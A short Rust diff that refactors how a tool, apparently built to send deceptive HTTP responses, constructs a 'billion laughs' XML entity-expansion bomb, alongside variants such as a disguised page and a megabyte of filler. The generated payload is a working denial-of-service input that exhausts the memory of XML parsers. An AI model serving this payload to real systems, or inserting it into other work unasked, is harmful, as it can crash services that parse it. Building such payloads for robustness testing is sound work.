@@ -55,10 +55,9 @@ impl Lie {
             Self::EmptyObject => Response::new(200, "application/json", "{}"),
             Self::PageInDisguise => Response::new(200, expected, page),
             Self::Bomb => {
-                let below = |level: u32| format!("&l{};", level - 1).repeat(10);
-                let levels: Vec<String> = (1..10).map(|level| format!("<!ENTITY l{level} \"{}\">", below(level))).collect();
-                let bomb = format!("<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY l0 \"lol\">{}", levels.concat());
-                Response::new(200, expected, bomb + "]><l>&l9;</l>")
+                let level = |level: usize| format!("<!ENTITY l{level} \"{}\">", format!("&l{};", level - 1).repeat(10));
+                let levels: String = (1..10).map(level).collect();
+                Response::new(200, expected, format!("<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY l0 \"lol\">{levels}]><l>&l9;</l>"))
             }
             Self::Megabyte => {
                 let text = "x".repeat(1 << 20);
